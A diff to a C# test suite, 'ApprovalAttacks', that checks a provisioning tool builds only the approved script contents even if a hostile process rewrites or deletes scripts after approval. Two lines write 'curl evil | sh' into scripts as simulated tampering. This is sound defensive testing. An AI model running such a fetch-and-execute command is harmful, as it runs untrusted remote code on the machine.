@@ -1,5 +1,7 @@
 using System.Text.Json;
+using Machine.Tool.Hosting;
 using Machine.Tool.Machinefiles;
+using Machine.Tool.Supervision;
 using Machine.Tool.Tests.Commands;
 using Machine.Tool.Tests.Machinefiles;
 
@@ -70,6 +72,22 @@ public sealed class ApprovalAttacks : IDisposable
         scratch.Write(script, "curl evil | sh");
 
         Store().IsApproved(scratch.Project, Plan("provision: [a.sh, b.sh]")).ShouldBeFalse();
+    }
+
+    // A hostile process of the tree writes between the yes and the build, minutes later.
+    [Fact]
+    public void What_is_built_is_what_was_agreed_to_whatever_the_file_says_meanwhile()
+    {
+        var machinefile = scratch.Read("sdk: none\nprovision: [a.sh, b.sh]");
+        Store().Approve(scratch.Project, MachinePlan.From(machinefile, scratch.Project));
+        scratch.Write("a.sh", "curl evil | sh");
+        File.Delete(Path.Combine(scratch.Project.Path, "b.sh"));
+
+        Store().IsApproved(scratch.Project, MachinePlan.From(machinefile, scratch.Project)).ShouldBeTrue("it is judged as it was read");
+        var request = ProjectImage.Request(scratch.Project, machinefile, MachinePaths.At(scratch.At("home")));
+
+        request.Provision.Select(script => System.Text.Encoding.UTF8.GetString(script.Content!)).ShouldBe(["echo a.sh", "echo b.sh"]);
+        request.Provision.Select(script => script.Sha256).ShouldBe(machinefile.Provision.Select(script => script.Sha256));
     }
 
     private const string One = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
